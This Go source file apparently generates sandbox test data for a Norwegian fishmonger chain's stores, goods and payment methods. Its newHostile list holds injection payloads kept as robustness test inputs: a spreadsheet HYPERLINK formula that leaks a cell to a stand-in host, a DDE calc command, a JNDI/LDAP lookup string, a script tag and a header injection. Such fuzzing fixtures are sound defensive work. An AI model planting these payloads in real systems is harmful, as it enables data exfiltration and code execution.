package sandbox

// store is one of the chain's shops.
type store struct {
	id, name, city, postal, street string
	gln, terminal                  string
	seller                         string // store.payout_destination_id
	weight                         int
}

// good is something on the counter; price in øre, per piece or per kilo.
type good struct {
	id, name string
	price    int64
	byWeight bool
	vat      int // percent
}

// method is a way to pay.
type method struct {
	product, kind string
	brands        []string // of the card, where there is one
	currency      string   // the only one it takes; empty for any
	inStore       bool
	settles       bool // its events get fee and settlement
	gift          bool // paid with a gift card
	weight        int
}

// shop is what does not change from day to day.
type shop struct {
	stores  []store
	sellers []string
	goods   []good
	methods []method
	people  people
	hostile []string

	storeWeights, methodWeights []int
}

// The indexes of the stores that the day's script names.
const (
	oslo = iota
	bergen
	trondheim
	tromso
	alesund
	webshop
)

func newShop() *shop {
	s := &shop{stores: newStores(), sellers: newSellers(), goods: newGoods(), methods: newMethods(), people: newPeople(), hostile: newHostile()}
	for _, st := range s.stores {
		s.storeWeights = append(s.storeWeights, st.weight)
	}
	for _, m := range s.methods {
		s.methodWeights = append(s.methodWeights, m.weight)
	}
	return s
}

func newStores() []store {
	return []store{
		{id: "sc029", name: "Fjordfisk Oslo", city: "Oslo", postal: "0150", street: "Fiskebrygga 4", gln: "7080000000291", terminal: "T0292", weight: 36},
		{id: "sc031", name: "Fjordfisk Bergen", city: "Bergen", postal: "5014", street: "Torgkaien 12", gln: "7080000000314", terminal: "T0311", weight: 14},
		{id: "sc044", name: "Fjordfisk Trondheim", city: "Trondheim", postal: "7010", street: "Ravnkaia 3", gln: "7080000000444", terminal: "T0440", weight: 12},
		{id: "sc058", name: "Fjordfisk Tromsø", city: "Tromsø", postal: "9008", street: "Ishavskaia 1", gln: "7080000000581", terminal: "T0583", seller: "fjordfisk-tromso", weight: 8},
		{id: "sc063", name: `Fjordfisk Ålesund; «Ærfuglen» Æsj & "Søn" 🐟`, city: "Ålesund", postal: "6002", street: "Æglesgata 9", gln: "7080000000635", terminal: "T0630", weight: 8},
		{id: "sc100", name: "Fjordfisk nettbutikk", city: "Oslo", postal: "0150", street: "Fiskebrygga 4", gln: "7080000001007", weight: 22},
	}
}

func newSellers() []string {
	return []string{"P00000001", "P00000002", "P00000003", "fiskehandel-bergen", "lofoten-torrfisk", "roykeriet-alesund", "fjordfisk-tromso"}
}

func newGoods() []good {
	return []good{
		{"1001", "Laksefilet, fersk", 29900, true, 15}, {"1002", "Torskefilet uten skinn", 32900, true, 15},
		{"1003", "Reker i skall, ferske", 24900, true, 15}, {"1004", "Kveiteskiver", 44900, true, 15},
		{"1005", "Steinbitfilet", 35900, true, 15}, {"1006", "Breiflabbhale", 52900, true, 15},
		{"2001", "Fiskekaker, 4 stk.", 8900, false, 15}, {"2002", "Fiskegrateng, familie", 15900, false, 15},
		{"2003", "Røkelaks i skiver, 200 g", 11950, false, 15}, {"2004", "Gravlaks med sennepssaus", 13900, false, 15},
		{"2005", "Rakfisk, Valdres, 600 g", 24500, false, 15}, {"2006", "Lutefisk", 18900, true, 15},
		{"2007", "Kongekrabbe, klør", 89900, true, 15}, {"2008", "Kamskjell, 10 stk.", 34900, false, 15},
		{"2009", "Blåskjell, 1 kg", 7990, false, 15}, {"2010", "Skalldyrfat for 4 personer", 149900, false, 15},
		{"2011", "Tørrfisk fra Lofoten, 400 g", 27900, false, 15}, {"2012", "Klippfisk, hel", 39900, false, 15},
		{"2013", "Sild i kryddereddik", 6490, false, 15}, {"2014", "Kaviar på tube", 3990, false, 15},
		{"3001", "Fiskesuppe, servert", 18900, false, 25}, {"3002", "Fish and chips, take away", 16900, false, 15},
		{"4001", "Filetkniv, 18 cm", 54900, false, 25}, {"4002", "Kokebok «Havets bord»", 44900, false, 0},
		{"4003", "Rekebåt, guidet tur med mat", 69500, false, 12}, {"4004", "Bærenett av fiskegarn", 9900, false, 25},
	}
}

func newMethods() []method {
	cards := []string{"Visa", "Visa", "Visa", "Mastercard", "Mastercard", "American Express", "Maestro"}
	return []method{
		{product: "payex", kind: "payex.creditcard", brands: cards, settles: true, weight: 30},
		{product: "vipps", kind: "vipps", settles: true, currency: "NOK", weight: 14},
		{product: "payex", kind: "payex.vipps", brands: cards[:5], settles: true, currency: "NOK", weight: 8},
		{product: "dintero_psp", kind: "dintero_psp.vipps", brands: cards[:5], settles: true, currency: "NOK", weight: 6},
		{product: "dintero_psp", kind: "dintero_psp.creditcard", brands: cards, settles: true, weight: 5},
		{product: "collector", kind: "collector.invoice", currency: "NOK", weight: 8},
		{product: "klarna", kind: "klarna.klarna", weight: 7},
		{product: "swish", kind: "swish.swish", currency: "SEK", weight: 4},
		{product: "bambora", kind: "bambora.applepay", brands: cards[:5], settles: true, weight: 5},
		{product: "payex", kind: "payex.googlepay", brands: cards[:5], settles: true, weight: 2},
		{product: "seitatech", kind: "seitatech.in_person", brands: cards, currency: "NOK", inStore: true, weight: 9},
		{product: "dintero", kind: "dintero.wallets", currency: "NOK", gift: true, weight: 3},
	}
}

// The indexes of the methods that the day's script names.
const (
	card = iota
	vipps
	payexVipps
	pspVipps
	pspCard
	walley
	klarna
	swish
	applePay
	googlePay
	inPerson
	giftCard
)

// newHostile is text that breaks careless programs: spreadsheets, HTML, CSV, terminals, fonts.
func newHostile() []string {
	long := make([]byte, 300)
	for i := range long {
		long[i] = alphabet[(i*7)%62]
	}
	return []string{
		`=HYPERLINK("http://x/?"&A1)`, "+47 999 99 999", "-10", "@user", `"`, ";", ",", `ordre "hasteordre"; Bergen, dør 3`,
		"linje 1\nlinje 2", "kolonne\tkolonne", "\t=1+1", "\r\nBcc: x@example.com", "piip\u0007 esc\u001b[31m rødt\u0001", string(long),
		"<script>alert('fisk')</script>", "FF-\u202eslaer\u202c-1", "Z\u0351\u036b\u0343\u036a\u0302a\u0314\u0311\u030f\u036fl\u034c\u0366\u0343\u0364g\u0366\u035b\u0352o\u0308\u0303\u0300",
		"🐟🦐👩‍👩‍👧 🇳🇴", "طلب رقم ٤٢", "הזמנה 42", "ordre\u200b\u00a0\u2028ny linje", "００１＝１＋１", "=cmd|' /C calc'!A0", "{{.}} %d%s%n ${jndi:ldap://x}",
		`\\(tekst\\) /JS`, "   ", "ÆØÅ æøå ÄÖ äö Ð þ ß", "00012345678901234567", "2026-11-20", "1E5", "'apostrof", "Blåbær, 漁師 魚屋",
	}
}
